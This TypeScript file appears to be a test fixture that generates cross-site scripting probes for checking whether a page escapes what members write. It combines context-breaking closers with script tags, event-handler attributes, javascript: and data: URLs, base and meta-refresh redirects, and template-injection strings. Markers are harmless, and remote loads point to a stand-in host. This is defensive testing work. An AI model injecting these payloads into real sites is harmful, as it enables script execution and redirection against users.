/** A probe that runs sets `window.probeRan`; one that loads something asks this host, which does not exist. */
export const probeHost = 'probe.example'

/** What could end the text, the attribute, the element or the script in which a page puts what a member wrote. */
const closers = [
  '',
  '">',
  "'>",
  '</script>',
  '</style>',
  '</title>',
  '</textarea>',
  '</template></noscript>',
  '--><!--x-->',
  ']]>',
]

const run = 'window.probeRan=1'

const bodies = [
  `<script>${run}</script>`,
  `<script src=//${probeHost}/a.js></script>`,
  `<img src=x onerror=${run}>`,
  `<svg onload=${run}><a xlink:href="javascript:${run}">x</a></svg>`,
  `<iframe srcdoc="<script>parent.probeRan=1</script>">`,
  `<style>*{background:url(//${probeHost}/css)!important}</style>`,
  `<details open ontoggle=${run}>`,
  `<a href="javascript:${run}">x</a>`,
  `<base href=//${probeHost}/>`,
  `<meta http-equiv=refresh content="0;url=//${probeHost}/">`,
  `<form action=//${probeHost}/><button autofocus onfocus=${run}>x</button>`,
  `x" autofocus onfocus="${run}" style="animation:x" onanimationstart="${run}`,
]

const others = [
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `\u2028${run}\u2029//`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
]

/** Texts that run, load or change something if a page takes them for markup, script or style. */
export const markupProbes = [...closers.flatMap(closer => bodies.map(body => closer + body)), ...others]
